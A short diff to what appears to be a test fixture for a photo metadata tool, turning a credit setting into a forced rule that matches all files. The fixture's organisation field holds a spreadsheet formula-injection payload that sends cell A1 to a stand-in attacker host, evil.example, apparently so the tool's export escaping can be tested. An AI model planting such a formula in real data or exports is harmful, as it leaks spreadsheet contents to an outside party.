@@ -177,8 +177,11 @@ FORMULA_EVENT = """
 id = "formulas"
 title = "Formulas"
 
-[credit]
+# Forced: the files name their own creators, so [credit] alone would not reach them.
+[[credit.rules]]
+match = "**"
 organisation = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+force = true
 
 [[media]]
 path = "iptc.jpg"
